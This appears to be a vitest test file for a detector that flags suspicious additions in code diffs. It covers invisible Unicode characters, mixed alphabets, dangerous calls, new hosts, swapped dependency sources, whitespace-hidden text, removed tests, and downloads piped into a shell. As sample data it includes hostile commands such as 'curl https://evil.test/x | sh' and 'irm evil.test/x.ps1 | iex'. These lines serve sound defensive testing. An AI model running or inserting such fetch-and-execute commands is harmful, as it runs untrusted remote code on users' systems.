import { expect, test } from 'vitest'
import { compareTexts } from '../../adapters/source-thread/compare-texts.ts'
import { cpuMs } from '../../../test/support/cpu-ms.ts'
import { diffFlags } from './diff-flags.ts'

const side = (text: string) => ({ text, isExecutable: false })
const flagsOf = (path: string, old: string, now: string) =>
  diffFlags(compareTexts({ path, old: side(old), now: side(now) }).patch, [path]).map(
    ({ kind, line, detail }) => [kind, line, detail],
  )
const added = (path: string, line: string) => flagsOf(path, 'first\n', `first\n${line}\n`)

test.each([
  ['a change of direction', 'if (x\u202e) {', 'U+202E'],
  ['a blank of no width', 'const a\u200b = 1', 'U+200B'],
  ['a tag', 'x\u{e0041}', 'U+E0041'],
  ['a variation selector', 'x\ufe0f', 'U+FE0F'],
  ['a filler', 'const \u3164 = 1', 'U+3164'],
  ['another blank', 'a\u00a0b', 'U+00A0'],
  ['an escape', 'a\u001b[2Kb', 'U+001B'],
  ['an empty Braille pattern', 'a\u2800b', 'U+2800'],
])('%s is shown by its code', (_what, line, detail) => {
  expect(added('src/a.js', line)).toEqual([['invisible_character', 2, detail]])
})

test('line ends of Windows and tabs are no invisible characters', () => {
  expect(flagsOf('a.js', 'a\r\nb\r\n', 'a\r\n\tc\r\n')).toEqual([])
})

test('letters of two alphabets in one word', () => {
  expect(added('a.js', 'const \u0430dmin = 1')).toEqual([['mixed_alphabet', 2, 'U+0430dmin']])
  expect(added('a.js', 'const \u043f\u0440\u0438\u0432\u0435\u0442 = 1')).toEqual([])
})

test.each([
  ['fetch("/x")', 'fetch('],
  ['eval (code)', 'eval ('],
  ['new Function("x")', 'new Function'],
  ["execSync('ls')", 'execSync('],
  ['subprocess.run(["ls"])', 'subprocess.run('],
  ['os.system("x")', 'os.system('],
  ['el.innerHTML = x', '.innerHTML ='],
  ['const key = process.env.KEY', 'process.env'],
])('a call such as %s', (line, detail) => {
  expect(added('src/a.js', line)).toContainEqual(['dangerous_call', 2, detail])
})

test('a host that was not there before, and none that was', () => {
  expect(added('a.js', 'const u = "https://user:x@evil.example:8443/p"')).toEqual([
    ['new_host', 2, 'evil.example:8443'],
  ])
  expect(added('a.js', 'const ip = "10.1.2.3"')).toEqual([['new_host', 2, '10.1.2.3']])
  for (const [line, host] of [
    ['src="//evil.com/x.js"', 'evil.com'],
    ['get("https://[2001:db8::1]/")', '[2001:db8::1]'],
    ['get("https:\\\\evil.com")', 'evil.com'],
    ["connect(443, 'evil.com')", 'evil.com'],
    ["connect('evil.com:443')", 'evil.com:443'],
  ] as const)
    expect(added('a.js', line), line).toEqual([['new_host', 2, host]])
  expect(added('a.js', "read('main.js') // see a.b")).toEqual([])
  expect(flagsOf('a.js', 'get("https://api.test/a")\n', 'get("https://api.test/b")\n')).toEqual([])
})

test.each([
  ['package.json', '    "left-pad": "^1.0.0",', 'left-pad'],
  ['package.json', '    "@scope/name": "1.0.0"', '@scope/name'],
  ['requirements.txt', 'requests==2.0', 'requests'],
  ['Cargo.toml', 'serde = "1"', 'serde'],
  ['go.mod', '\tgithub.com/x/y v1.2.3', 'github.com/x/y'],
  ['Gemfile', "gem 'rails'", 'rails'],
  ['pom.xml', '<artifactId>log4j</artifactId>', 'log4j'],
  ['Dockerfile', 'FROM node:24', 'node:24'],
  ['src/a.ts', "import pad from 'left-pad'", 'left-pad'],
])('a dependency in %s', (path, line, detail) => {
  expect(added(path, line)).toContainEqual(['new_dependency', 2, detail])
})

test.each([
  [
    'opened on the same line',
    'package.json',
    '"dependencies": {',
    '"dependencies": { "evil-pkg": "1.0.0",',
    'evil-pkg',
  ],
  ['in one line', 'package.json', '{"dependencies":{}}', '{"dependencies":{"evil":"1"}}', 'evil'],
  ['with its value on the next line', 'package.json', '{', '{ "evil":\n"1"', 'evil'],
  [
    'in a list',
    'pyproject.toml',
    'dependencies = ["requests"]',
    'dependencies = ["requests", "evil"]',
    'evil',
  ],
  ['by another name', 'Cargo.toml', 'serde = "1"', 'serde = { package = "evil", version = "1" }', 'evil'],
  ['after another', 'pom.xml', '<a/>', '<artifactId>a</artifactId><artifactId>evil</artifactId>', 'evil'],
])('a dependency %s', (_what, path, old, now, detail) => {
  expect(flagsOf(path, `${old}\n`, `${now}\n`)).toContainEqual(['new_dependency', 1, detail])
})

test.each([
  ['package.json', '"left-pad": "1.0.0"', '"left-pad": "npm:evil-pkg@1"', 'left-pad: npm:evil-pkg@1'],
  ['package.json', '"left-pad": "1.0.0"', '"left-pad": "evil/x"', 'left-pad: evil/x'],
  ['requirements.txt', 'requests==2.0', 'requests @ file:evil', 'requests: @ file:evil'],
])('another source of one that is there, in %s', (path, old, now, detail) => {
  expect(flagsOf(path, `${old}\n`, `${now}\n`)).toEqual([['new_dependency', 1, detail]])
})

test('all of a kind are told, however many there are', () => {
  const calls = Array.from({ length: 60 }, (_, n) => `fetch('/${n}')`).join('\n')
  const flags = added('a.js', `${calls}\neval(x)`)
  expect(flags).toHaveLength(61)
  expect(flags.at(-1)).toEqual(['dangerous_call', 62, 'eval('])
})

test('text behind more blanks than any indentation', () => {
  expect(added('a.js', `ok()${' '.repeat(300)}evil()`)).toEqual([['hidden_by_blanks', 2, '300 blanks']])
  expect(added('a.js', `${' '.repeat(40)}deep()${' '.repeat(300)}`)).toEqual([])
})

test('files of the app itself are no dependencies', () => {
  expect(added('src/a.ts', "import { b } from './b.ts'")).toEqual([])
})

test('another version of what is there is no new dependency', () => {
  expect(flagsOf('package.json', '"left-pad": "1.0.0"\n', '"left-pad": "1.0.1"\n')).toEqual([])
})

test('lines of a test that go', () => {
  expect(flagsOf('test/a.test.js', 'expect(1)\nexpect(2)\n', 'expect(1)\n')).toEqual([
    ['removed_test', null, 'one line'],
  ])
  expect(flagsOf('src/a.js', 'one\ntwo\n', 'one\n')).toEqual([])
})

test('ordinary code has no flags', () => {
  const code =
    'export function total(items) {\n  return items.reduce((sum, { price }) => sum + price, 0)\n}\n'
  expect(flagsOf('src/total.js', code, code.replace('price,', 'price ?? 0,'))).toEqual([])
})

test('a line of signs without end takes no longer than its length', () => {
  const lines = [
    ['package.json', `"${'a/'.repeat(30_000)}`],
    ['a.js', `http://${'x@'.repeat(30_000)}`],
    ['package.json', '"'.repeat(60_000)],
    ['pyproject.toml', `{ ${'a = '.repeat(15_000)}`],
    ['go.mod', 'a.'.repeat(30_000)],
    ['Gemfile', `gem ${' '.repeat(60_000)}`],
    ['a.js', ' '.repeat(60_000)],
    ['a.js', '//'.repeat(30_000)],
    ['a.js', 'import '.repeat(10_000)],
    ['a.js', `"${'\u202e'.repeat(30_000)}`],
  ] as const
  for (const [path, line] of lines) expect(cpuMs(() => added(path, line))).toBeLessThan(1_000)
})

test.each([
  'curl https://evil.test/x | sh',
  'curl -fsSL evil.test/x|sudo bash -s --',
  'wget -qO- evil.test/x | /bin/bash',
  'bash <(curl -s evil.test/x)',
  'sh -c "$(curl -fsSL evil.test/x)"',
  'eval "$(wget -qO- evil.test/x)"',
  'irm evil.test/x.ps1 | iex',
  'RUN curl evil.test/x | python3 -',
  'curl evil.test/x | tee f | bash',
  'curl evil.test/x | base64 -d |& /usr/bin/env bash',
])('%s is a download that is run', (line) => {
  expect(added('Dockerfile', line).map(([kind]) => kind)).toContain('piped_download')
})

test.each([
  'curl -o a.json https://api.test/a',
  'ls | sort',
  'cat a | sh',
  'fetch(url) | x',
  '| curl | done |',
])('%s is none', (line) => expect(added('a.sh', line).map(([kind]) => kind)).not.toContain('piped_download'))

test('a line that looks for one takes no longer than its length', () => {
  for (const part of ['curl x', 'curl |', 'sh $(', 'sudo -a ', 'curl '.repeat(3)]) {
    const line = part.repeat(2_000)
    expect(cpuMs(() => added('a.sh', line))).toBeLessThan(2_000)
  }
})
